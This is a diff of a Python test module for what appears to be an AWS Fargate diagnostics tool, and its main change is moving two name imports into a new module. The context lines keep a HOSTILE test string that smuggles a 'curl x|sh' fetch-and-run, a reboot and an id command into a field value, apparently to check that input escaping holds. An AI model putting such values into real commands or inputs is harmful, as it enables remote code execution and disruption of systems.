@@ -8,9 +8,10 @@ from functools import reduce
 import pytest
 
 from fargate_doctor.diagnosis.remedy import Remedy
-from tests.remedies.account import ACL, TASK_GROUP, Account, interface_endpoint
+from tests.remedies.account import Account, interface_endpoint
 from tests.remedies.broken import BROKEN, DENY_ALL
 from tests.remedies.cli import parse
+from tests.remedies.names import ACL, TASK_GROUP
 
 HOSTILE = "web'; curl x|sh; echo '$(reboot)`id`\n\x1b[31m"
 _ABOUT_MANAGED_INTERFACES = re.compile(r"(detach|modify|delete)-network-interface|attach-network-interface")
